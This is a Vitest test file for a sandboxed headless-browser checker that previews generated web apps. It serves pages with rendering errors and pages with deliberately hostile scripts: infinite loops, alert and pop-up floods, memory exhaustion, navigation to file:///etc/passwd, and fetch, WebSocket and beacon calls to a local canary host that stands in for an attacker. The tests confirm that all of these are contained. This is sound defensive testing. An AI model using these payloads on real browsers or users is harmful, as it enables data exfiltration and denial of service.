import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "./chromium";
import { PreviewBrowser } from "./browser";

/** Pages a generated app might serve, broken or hostile; `/` of each is the page under test. */
const PAGES: Record<string, string> = {
  good: `<h1>Habit tracker</h1><p>Three habits today.</p>`,
  canvas: `<canvas id="c" width="300" height="200" style="background:#123"></canvas>`,
  exception: `<h1>Hi</h1><script src="app.js"></script>`,
  console: `<h1>Hi</h1><script>console.error("could not load the tasks")</script>`,
  missing: `<h1>Hi</h1><img src="logo.png" alt="logo">`,
  fallback: `<h1>Hi</h1><img src="fallback.png" alt="logo">`,
  blank: `<div id="root"></div><script>/* the app mounted nothing */</script>`,
  overlay: `<h1>Hi</h1><script>customElements.define("vite-error-overlay", class extends HTMLElement { constructor(){ super(); const r=this.attachShadow({mode:"open"}); r.innerHTML='<div class="message">Transform failed: Unexpected token</div><div class="file">/src/App.tsx:4:2</div>'; } }); document.body.appendChild(document.createElement("vite-error-overlay"));</script>`,
  loop: `<h1>Hi</h1><script>while (true) {}</script>`,
  alerts: `<h1>Hi</h1><script>for (let i = 0; i < 1e9; i++) alert("hi " + i)</script>`,
  allocation: `<h1>Hi</h1><script>const hog = []; for (;;) hog.push(new Array(1e6).fill(Math.random()))</script>`,
  popups: `<h1>Hi</h1><script>for (let i = 0; i < 200; i++) window.open("/?popup=" + i)</script>`,
  file: `<h1>Hi</h1><script>location.href = "file:///etc/passwd"</script>`,
  elsewhere: `<h1>Hi</h1><script>location.href = "CANARY/stolen"</script>`,
  probe: `<h1>Hi</h1><script>fetch("CANARY/fetch").catch(()=>{}); new Image().src = "CANARY/img"; try { new WebSocket("CANARY_WS/ws") } catch {}; navigator.sendBeacon("CANARY/beacon", "x")</script>`,
  neverLoads: `<h1>Hi</h1><img src="slow.png">`,
  lateError: `<h1>Hi</h1><script>setTimeout(() => fetch("tasks.json").then(() => { throw new Error("the tasks did not parse") }), 100)</script>`,
  polling: `<h1>Polls</h1><script>setInterval(() => fetch("tasks.json"), 50)</script>`,
};

let app: Server;
let canary: Server;
let appUrl = "";
const canaryHits: string[] = [];
let browser: PreviewBrowser;

function listen(server: Server): Promise<string> {
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

beforeAll(async () => {
  canary = createServer((req, res) => {
    canaryHits.push(req.url ?? "");
    res.end("secret");
  });
  canary.on("upgrade", (req, socket) => {
    canaryHits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  const canaryUrl = await listen(canary);
  app = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://x");
    const page = url.pathname.split("/")[1] ?? "";
    const rest = url.pathname.split("/").slice(2).join("/");
    if (rest === "app.js") {
      res.writeHead(200, { "content-type": "text/javascript" });
      return res.end("const tasks = undefined;\nfunction render() { return tasks.map((t) => t.name) }\nrender();\n");
    }
    if (rest === "slow.png") return; // never answers
    if (rest === "tasks.json") return void setTimeout(() => res.writeHead(200, { "content-type": "application/json" }).end("[]"), 600);
    if (rest === "fallback.png") return res.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><div id=root></div>");
    if (rest !== "") {
      res.writeHead(404);
      return res.end("not found");
    }
    const html = (PAGES[page] ?? "").replaceAll("CANARY_WS", canaryUrl.replace("http", "ws")).replaceAll("CANARY", canaryUrl);
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    res.end(`<!doctype html><html><head><base href="/${page}/"><title>t</title></head><body>${html}</body></html>`);
  });
  appUrl = await listen(app);
  browser = new PreviewBrowser(() => launchChromium());
}, 60_000);

afterAll(async () => {
  await browser?.close();
  app?.close();
  canary?.close();
});

const check = (page: string, timeoutMs = 8000) => browser.check({ url: `${appUrl}/${page}/` }, { timeoutMs, settleMs: 200 });
const messages = (result: { errors: { message: string }[] }) => result.errors.map((e) => e.message).join("\n");

describe("the browser check", () => {
  it("judges the page only once no request has been in flight for the quiet time: an error after a slow request is caught", async () => {
    // Load, then 100 ms later a request that takes 600 ms, then the error: all past a 200 ms quiet time after load.
    expect(messages(await check("lateError"))).toContain("uncaught Error: the tasks did not parse");
  });

  it("judges a page that is never quiet (it polls) after 3 s of waiting, and passes it when nothing went wrong", async () => {
    const started = Date.now();
    const result = await check("polling");
    expect(result).toMatchObject({ ok: true, errors: [] });
    expect(Date.now() - started).toBeLessThan(7000);
  });

  it("passes a page that renders, and captures a 1280×800 PNG", async () => {
    const result = await check("good");
    expect(messages(result)).toBe("");
    expect(result.ok).toBe(true);
    expect(result.screenshot?.subarray(1, 4).toString()).toBe("PNG");
    expect(result.screenshot?.readUInt32BE(16)).toBe(1280);
    expect(result.screenshot?.readUInt32BE(20)).toBe(800);
  }, 60_000);

  it("counts a painted canvas as content, not as a blank page", async () => {
    expect((await check("canvas")).ok).toBe(true);
  }, 30_000);

  it.each([
    ["exception", /uncaught TypeError: .*map.* \(at \/exception\/app\.js:2:\d+\)/],
    ["console", /console\.error: could not load the tasks/],
    ["missing", /HTTP 404 for GET \/missing\/logo\.png/],
    ["fallback", /missing file: \/fallback\/fallback\.png \(the image request got the app's HTML page/],
    ["blank", /the page is blank/],
    ["overlay", /error overlay: Transform failed: Unexpected token \(\/src\/App\.tsx:4:2\)/],
  ])("catches %s", async (page, expected) => {
    const result = await check(page);
    expect(result.ok).toBe(false);
    expect(messages(result)).toMatch(expected);
  }, 30_000);

  it.each([
    ["loop", /did not (finish loading|answer)/],
    ["alerts", /did not (finish loading|answer)/],
    ["allocation", /crashed|did not (finish loading|answer)/],
    ["neverLoads", /did not finish loading/],
  ])("ends a hostile page (%s) within its timeout with a result", async (page, expected) => {
    const started = Date.now();
    const result = await check(page, 6000);
    expect(Date.now() - started).toBeLessThan(6000 + 4000);
    expect(result.ok).toBe(false);
    expect(messages(result)).toMatch(expected);
  }, 30_000);

  it("closes pop-ups and keeps pages on their own origin: nothing outside the preview is ever requested", async () => {
    expect(messages(await check("popups"))).toBe("");
    const away = await check("elsewhere");
    expect(messages(away)).toMatch(/navigated away to http:\/\/127\.0\.0\.1:\d+ \(blocked/);
    const file = await check("file");
    expect(file.screenshot).not.toBeNull();
    const probe = await check("probe");
    expect(probe.blockedRequests).toBeGreaterThanOrEqual(2);
    expect(canaryHits).toEqual([]);
  }, 60_000);

  it("still works after every hostile page", async () => {
    const result = await check("good");
    expect(messages(result)).toBe("");
  }, 30_000);
});
